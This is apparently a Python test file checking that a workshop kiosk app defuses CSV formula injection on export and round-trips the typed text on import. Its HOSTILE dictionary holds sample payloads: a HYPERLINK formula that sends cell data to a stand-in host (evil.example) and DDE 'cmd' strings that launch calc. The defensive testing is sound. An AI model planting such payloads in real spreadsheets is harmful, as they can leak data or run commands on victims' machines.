"""CSV formula injection, end to end through the real `kiosk` command: text a table typed (an
own criterion, a note) or a facilitator entered (workshop, table) that a spreadsheet would run
as a formula leaves the kiosk defused in every CSV file, comes back exactly as typed on
import, and a second export is byte-identical. (Cell-level cases: tests/test_csv_roundtrip.py.)
"""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from pathlib import Path

from kiosk.services.catalog import load_catalog
from kiosk.services.table_session import TableSession
from kiosk.storage import Store

ROOT = Path(__file__).resolve().parent.parent
RISKY = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {
    "workshop": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "place": "@SUM(1+1)*cmd|' /C calc'!A0",
    "table": "+Table 3",
    "own": "-2+3+cmd|' /C calc'!A0",
    "note": "=1+1\r\nsecond line",
    "second": "\tTabbed start",
}


def kiosk(*args: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    env.pop("KIOSK_DEBUG", None)
    return subprocess.run([sys.executable, "-m", "kiosk", *args], capture_output=True,
                          text=True, env=env, cwd=ROOT, timeout=120)


def cells(folder: Path) -> list[str]:
    found = []
    for path in sorted(folder.glob("*.csv")):
        with open(path, encoding="utf-8-sig", newline="") as handle:
            found += [cell for row in csv.reader(handle) for cell in row]
    return found


def test_formulas_typed_at_a_table_never_reach_a_spreadsheet_live(tmp_path: Path) -> None:
    data = tmp_path / "data"
    catalog = load_catalog(data)
    with Store.open(data) as store:
        store.save_workshop({"workshop_id": "w1", "name": HOSTILE["workshop"],
                             "place": HOSTILE["place"], "date": "2017-06-28"})
        store.save_settings({"workshop_id": "w1", "table": HOSTILE["table"], "kiosk_id": "k1"})
        session = TableSession(store, catalog)
        ranking = session.start_fresh()
        for slot, card in enumerate(ranking.cards):
            ranking.drop(card, slot)
        ranking.add_criterion(HOSTILE["own"], "own")
        ranking.add_criterion(HOSTILE["second"], "own")
        ranking.set_primary(HOSTILE["own"])
        ranking.set_note(HOSTILE["note"])
        session.finish()
        original = store.list_rankings()

    first = tmp_path / "first"
    done = kiosk("export", "--out", str(first), "--data-dir", str(data))
    assert done.returncode == 0, done.stderr
    written = cells(first)
    live = [c for c in written if c.startswith(RISKY)]
    assert live == [], f"cells a spreadsheet would run: {live}"
    stored = [getattr(original[0], f) for f in ("workshop", "place", "table", "note")]
    stored += [c.text for c in original[0].criteria]
    risky = [text for text in stored if text.startswith(RISKY)]
    assert len(risky) >= 5  # (the domain strips the tab from the criterion's start)
    for text in risky:
        assert any(c.startswith("'" + text) for c in written), text

    elsewhere = tmp_path / "elsewhere"
    Store.open(elsewhere).close()
    done = kiosk("import", str(first), "--data-dir", str(elsewhere))
    assert done.returncode == 0, done.stderr
    with Store.open(elsewhere) as store:
        imported = store.list_rankings()
    assert len(imported) == 1
    mine, theirs = original[0], imported[0]
    for field in ("workshop", "place", "table", "note", "criteria"):
        assert getattr(theirs, field) == getattr(mine, field), field

    second = tmp_path / "second"
    done = kiosk("export", "--out", str(second), "--data-dir", str(elsewhere))
    assert done.returncode == 0, done.stderr
    for path in sorted(first.glob("*.csv")):
        assert (second / path.name).read_bytes() == path.read_bytes(), path.name

    # The command line's JSON is not a spreadsheet: names come out as they are.
    done = kiosk("compare", "--deck", mine.deck, "--lens", mine.lens, "--json",
                 "--data-dir", str(elsewhere))
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["tables"] == [f"{HOSTILE['workshop']} / {HOSTILE['table']}"]


def test_a_hand_typed_sheet_with_formulas_is_defused_on_the_way_out(tmp_path: Path) -> None:
    """A paper session typed into a spreadsheet: raw formulas in the cells are kept as text
    on import (no apostrophe to remove) and written back defused."""
    data = tmp_path / "data"
    Store.open(data).close()
    sheet = tmp_path / "paper"
    sheet.mkdir()
    header = ["ranking_id", "workshop_id", "workshop", "place", "workshop_date", "table",
              "kiosk_id", "deck", "lens", "card_id", "card_title", "position", "tier",
              "completed_at", "duration_s", "moves", "primary_criterion", "note"]
    deck = load_catalog(data).deck("examples-a-f")
    rows = [["", "", "=Paper workshop", "Leeds", "2017-07-05", "@Table 1", "", deck.id,
             "benefit", card, "", str(i + 1), "", "2017-07-05T11:00:00+01:00", "", "",
             "+Helps most people", "=A1*2"] for i, card in enumerate(deck.card_ids)]
    with open(sheet / "rankings.csv", "w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([header, *rows])
    done = kiosk("import", str(sheet), "--data-dir", str(data))
    assert done.returncode == 0, done.stdout + done.stderr
    with Store.open(data) as store:
        (record,) = store.list_rankings()
    assert record.workshop == "=Paper workshop" and record.table == "@Table 1"
    assert record.note == "=A1*2"
    out = tmp_path / "out"
    assert kiosk("export", "--out", str(out), "--data-dir", str(data)).returncode == 0
    assert [c for c in cells(out) if c.startswith(RISKY)] == []
